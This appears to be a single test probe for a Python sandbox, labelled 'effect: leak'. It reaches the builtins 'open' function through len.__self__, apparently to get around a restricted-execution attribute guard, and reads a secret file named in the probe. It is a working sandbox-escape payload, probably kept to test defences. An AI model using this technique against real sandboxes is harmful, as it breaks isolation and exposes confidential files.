# effect: leak
def attempt(probe):
    walk = lambda target, _getattr_=getattr, /: target.__self__.open
    return walk(len)(probe["secret_file"]).read()
